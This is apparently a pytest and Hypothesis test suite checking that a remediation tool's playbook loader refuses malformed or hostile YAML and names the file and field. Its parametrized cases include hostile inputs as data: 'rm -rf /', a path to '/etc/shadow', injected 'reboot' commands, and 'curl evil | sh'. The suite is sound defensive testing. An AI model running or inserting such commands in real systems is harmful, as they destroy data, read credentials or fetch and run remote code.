"""Malformed and hostile playbooks: refused when loaded, with the file and the field named.

A playbook is free to be wrong; nothing in one may run as free text, and a bad one must be
refused before it can shape a plan (cluster.yaml, broker files and directory names have their
own suites: tests/config, tests/formats, tests/collect).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from remediate.errors import ConfigError
from remediate.playbook import load_playbook, parse_playbook

AREA = "Bad input"
SHIPPED = Path(__file__).resolve().parents[2] / "playbooks" / "topicid-mismatch.yaml"


def shipped() -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load(SHIPPED.read_text())
    return loaded


@pytest.mark.fault(
    AREA,
    "A playbook with a step outside the vocabulary, a file or scope it may not name, a"
    " negative timer or an unknown field",
    "Refused when loaded: the error names the playbook file, the field and what was expected;"
    " nothing in a playbook runs as free text",
)
@pytest.mark.parametrize(
    ("change", "field", "expected"),
    [
        ({"steps": ["stop", "exec: rm -rf /"]}, "steps.1", "'gate', 'stop', 'backup'"),
        ({"steps": ["stop", {"wait": "forever"}]}, "steps.1", "registered"),
        ({"files": ["../../etc/shadow"]}, "files.0", "'partition.metadata'"),
        ({"scope": "everything"}, "scope", "'affected' or 'all'"),
        ({"name": "x;reboot"}, "name", "pattern"),
        ({"gates": {"stability_window_s": -1}}, "gates.stability_window_s", ">= 0"),
        ({"gates": {"stability_window_s": "$(reboot)"}}, "gates.stability_window_s", "number"),
        ({"run": "curl evil | sh"}, "run", "Extra inputs are not permitted"),
        ({"steps": []}, "steps", ""),
    ],
)
def test_a_bad_playbook_is_refused_naming_file_and_field(
    change: dict[str, Any], field: str, expected: str
) -> None:
    document = {**shipped(), **change}
    with pytest.raises(ConfigError) as raised:
        parse_playbook(document, source="playbooks/bad.yaml")
    message = str(raised.value)
    assert f"playbooks/bad.yaml: {field}" in message
    assert expected.replace(">= 0", "greater than or equal to 0") in message or expected in message


@pytest.mark.fault(
    AREA,
    "A playbook file that is not YAML, not a mapping, or named differently from its file",
    "Refused with the file's path and the reason; no plan is made from it",
)
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("steps: [stop\n", "not valid YAML"),
        ("- just\n- a list\n", "(top level)"),
        (yaml.safe_dump({**shipped(), "name": "other-name"}), "expected 'bad' (the file's name)"),
        ("\x00\x01binary", "not valid YAML"),
    ],
)
def test_a_bad_playbook_file_is_refused(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as raised:
        load_playbook(str(path))
    assert str(path) in str(raised.value)
    assert expected in str(raised.value)


_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(max_size=30),
)
_VALUES = st.recursive(
    _SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(
    key=st.sampled_from(sorted(shipped())),
    value=_VALUES,
)
def test_any_value_in_any_field_parses_or_raises_config_error(key: str, value: object) -> None:
    document = {**shipped(), key: value}
    assert _error_of(document) in (None, "fuzzed.yaml")


@settings(max_examples=100, deadline=None)
@given(document=_VALUES)
def test_any_document_parses_or_raises_config_error(document: object) -> None:
    assert _error_of(document) in (None, "fuzzed.yaml")


def _error_of(document: object) -> str | None:
    """None if the document parses; else the source its ConfigError names (anything other
    than a ConfigError escapes and fails the test)."""
    try:
        parse_playbook(document, source="fuzzed.yaml")
    except ConfigError as exc:
        return str(exc).split(": ", 1)[0]
    return None
